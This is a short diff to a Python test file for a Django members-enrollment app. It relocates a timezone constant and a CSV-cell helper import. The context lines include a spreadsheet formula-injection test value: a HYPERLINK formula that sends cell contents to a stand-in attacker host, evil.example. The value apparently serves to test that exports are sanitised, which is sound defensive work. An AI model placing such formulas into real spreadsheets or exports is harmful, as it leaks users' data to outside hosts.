@@ -4,7 +4,6 @@ import csv
 import io
 import re
 from datetime import UTC, date, datetime
-from zoneinfo import ZoneInfo
 
 import pytest
 from django.urls import reverse
@@ -12,13 +11,13 @@ from django.utils import timezone
 from openpyxl import load_workbook
 from openpyxl.utils import get_column_letter
 
-from config.spreadsheets import csv_cell
+from core.clock import WIB
+from core.spreadsheets import csv_cell
 from members import enrollment as service
 from tests.people import FAUZI, JUMAT, KHADIJAH
 
 pytestmark = pytest.mark.django_db
 
-WIB = ZoneInfo("Asia/Jakarta")
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 SUM = "@SUM(1+1)"
